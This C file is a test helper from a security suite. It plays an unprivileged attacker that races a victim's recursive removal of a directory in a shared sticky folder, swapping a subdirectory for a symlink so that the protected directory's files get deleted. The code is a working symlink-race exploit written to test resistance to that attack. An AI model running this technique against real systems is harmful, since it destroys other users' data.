/* The racing attacker of tests/security, run as an unprivileged user
 * (setpriv): `sec_attacker OLD PROTECTED SECONDS`.
 *
 * Keeps OLD (the victim's DIR.old, in a shared sticky directory) in
 * existence as a directory of its own that looks like a trace (a
 * p1.ctrace and a subdirectory `sub` holding f000..f049, the names of
 * the protected files), and swaps `sub` for a symlink to PROTECTED and
 * back, as fast as it can, so that a path-walking removal of OLD that
 * descends into `sub` at the wrong moment deletes PROTECTED's files.
 * Stops after SECONDS (the test kills it sooner). */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define FILES 50

static void touch(const char *path)
{
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0666);
    if (fd >= 0)
        close(fd);
}

/* OLD as a fresh trace look-alike owned by us. */
static void populate(const char *old)
{
    char p[4096];
    if (mkdir(old, 0777) != 0 && errno != EEXIST)
        return;
    snprintf(p, sizeof p, "%s/p1.ctrace", old);
    touch(p);
    snprintf(p, sizeof p, "%s/sub", old);
    mkdir(p, 0777);
    for (int i = 0; i < FILES; i++) {
        snprintf(p, sizeof p, "%s/sub/f%03d", old, i);
        touch(p);
    }
}

static void swap_once(const char *old, const char *protected_dir)
{
    char sub[4096], real[4096], mark[4096];
    snprintf(sub, sizeof sub, "%s/sub", old);
    snprintf(real, sizeof real, "%s/sub.real", old);
    snprintf(mark, sizeof mark, "%s/p1.ctrace", old);
    if (access(mark, F_OK) != 0) /* a removal went through it */
        populate(old);
    if (rename(sub, real) != 0) { /* a removal took part of it */
        populate(old);
        return;
    }
    if (symlink(protected_dir, sub) == 0) {
        usleep(100); /* long enough for a walk to go through it */
        unlink(sub);
    }
    rename(real, sub);
    usleep(100); /* and for a walk to see a directory first */
}

int main(int argc, char **argv)
{
    if (argc != 4) {
        fprintf(stderr, "usage: sec_attacker OLD PROTECTED SECONDS\n");
        return 2;
    }
    time_t end = time(NULL) + atoi(argv[3]);
    while (time(NULL) < end) {
        struct stat st;
        if (lstat(argv[1], &st) != 0) {
            populate(argv[1]);
            continue;
        }
        if (st.st_uid != getuid()) { /* the victim's now: wait for it */
            usleep(1000);
            continue;
        }
        swap_once(argv[1], argv[2]);
    }
    return 0;
}
